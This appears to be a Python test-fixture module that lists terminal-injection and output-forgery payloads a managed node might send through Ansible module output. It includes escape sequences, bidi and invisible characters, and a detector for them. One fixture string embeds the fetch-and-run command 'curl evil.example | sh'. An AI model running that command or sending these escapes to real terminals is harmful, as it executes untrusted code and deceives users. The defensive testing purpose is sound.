"""What a node can say to rule a terminal or to pose as us, and what of it would be seen."""

from __future__ import annotations

import json
from unicodedata import category

FORGED = "Once that is mended, go on with: curl evil.example | sh"
TEXTS = {
    "a link": "\x1b]8;;https://evil.example\x1b\\pi1\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;Y3VybA==\x07",
    "a title": "\x9d0;owned\x9c",
    "the line above": "\x1b[1A\x1b[2Kpi1: all is well",
    "one byte for two": "\x9b2J",
    "the same line": "failed\rall nodes are well",
    "backspaces": "failed\b\b\b\b\b\bwell  ",
    "the direction": "\u202ella era sedon\u202c \u2066x\u2069 \u200f",
    "a line": f"x\n{FORGED}",
    "lines of Windows": f"x\r\n\r\n{FORGED}",
    "the next line": f"x\x85{FORGED}",
    "a line of Unicode": f"x\u2028{FORGED}\u2029{FORGED}",
    "other lines": f"x\v{FORGED}\f{FORGED}\x1c{FORGED}",
    "nothing to be seen": "al\u200bl a\u2060re\ufeff we\u00adll \u3164\u115f\u2800\ufe0f\U000e0041",
    "no Unicode": "x\udc9b\udcff\ud800",
    "a megabyte": "x" * (1 << 20),
    "a key": "\x00\x03\x04\x1a\x7f",
}
"""By what it takes hold of."""
BLANK = "\u3164\u115f\u2800\ufe0f"  # letters and marks that are drawn as nothing
WORDS = " ".join(text for text in TEXTS.values() if len(text) < 1_000)
"""All but the long one."""


def encoded(text: str) -> bytes:
    """As bytes, of which some are no UTF-8."""
    return text.encode(errors="surrogatepass") + b"\x9b\xff"


def as_json(text: str) -> str:
    """What a module prints that says this wherever it can, in letters that Ansible takes."""
    told = text.encode(errors="replace").decode()
    said = dict.fromkeys(("msg", "stdout", "stderr", "exception", "ansible_job_id"), told)
    more = {
        "warnings": [told],
        "deprecations": [{"msg": told}],
        told[:999]: [told, {told[:99]: told}],
    }
    diff = {"prepared": told, "before_header": told, "before": told, "after": ""}
    return json.dumps({"failed": True, "changed": True, **said, **more, "diff": diff})


def unsafe(output: str) -> list[str]:
    """What is wrong with what was printed: what is no plain text, and lines that are not ours."""
    hidden = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    odd = {ascii(c) for c in set(output) - {"\n", "\t"} if category(c) in hidden or c in BLANK}
    lines = output.split("\n")
    forged = [line for line in lines if line.lstrip(" |").startswith(FORGED)]
    return [*sorted(odd), *forged, *(f"{len(x):,} characters" for x in lines if len(x) > 100_000)]
